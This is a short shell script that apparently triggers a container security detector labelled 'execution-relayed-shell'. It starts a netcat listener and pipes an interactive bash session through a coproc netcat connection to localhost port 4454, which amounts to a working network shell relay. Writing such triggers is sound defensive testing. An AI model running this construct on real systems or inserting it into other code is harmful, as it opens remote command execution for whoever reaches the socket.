# in: container
# fires: execution-relayed-shell
sleep 2 | nc -l -p 4454 &
sleep 0.3
bash -c 'coproc nc -w 2 127.0.0.1 4454; bash -s <&${COPROC[0]} >&${COPROC[1]} 2>&1'
